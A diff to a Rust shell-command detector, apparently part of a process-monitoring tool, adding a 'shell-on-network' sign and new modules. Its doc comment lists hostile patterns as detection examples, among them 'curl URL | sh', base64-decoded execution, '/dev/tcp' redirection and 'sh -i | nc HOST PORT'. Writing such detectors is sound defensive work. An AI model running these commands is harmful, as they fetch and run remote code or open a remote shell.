@@ -11,6 +11,7 @@
 //! | `runs-fetched` | what comes from the network is run: `curl URL \| sh` |
 //! | `runs-decoded` | what was encoded is run: `echo aWQ= \| base64 -d \| sh` |
 //! | `dev-tcp` | a redirection to `/dev/tcp/HOST/PORT` |
+//! | `shell-on-network` | what a shell prints goes to the network by a pipe: `sh -i \| nc HOST PORT` |
 //!
 //! ```
 //! use kernscope_watch::detect::shell;
@@ -19,6 +20,7 @@
 //! assert!(reading.signs.iter().any(|sign| sign == "injection"));
 //! ```
 
+mod brought;
 mod danger;
 mod evaluate;
 mod expand;
@@ -30,6 +32,7 @@ mod script;
 #[cfg(test)]
 mod tests;
 mod word;
+pub(super) mod wrapper;
 
 use crate::core::Process;
 use std::borrow::Cow;
@@ -124,6 +127,7 @@ pub fn read<'a>(text: &str, lineage: impl Iterator<Item = &'a Process>) -> Readi
         reading.commands.extend(
             script.commands.iter().map(script::Command::line).filter(|line| !line.is_empty()).take(room),
         );
+        reading.commands.extend(danger::fed(script).into_iter().take(MAX_INNER));
         let inner: Vec<_> = danger::inner(script).iter().map(|text| parse::parse(text)).collect();
         texts.extend(inner.into_iter().take(MAX_INNER.saturating_sub(texts.len())));
     }
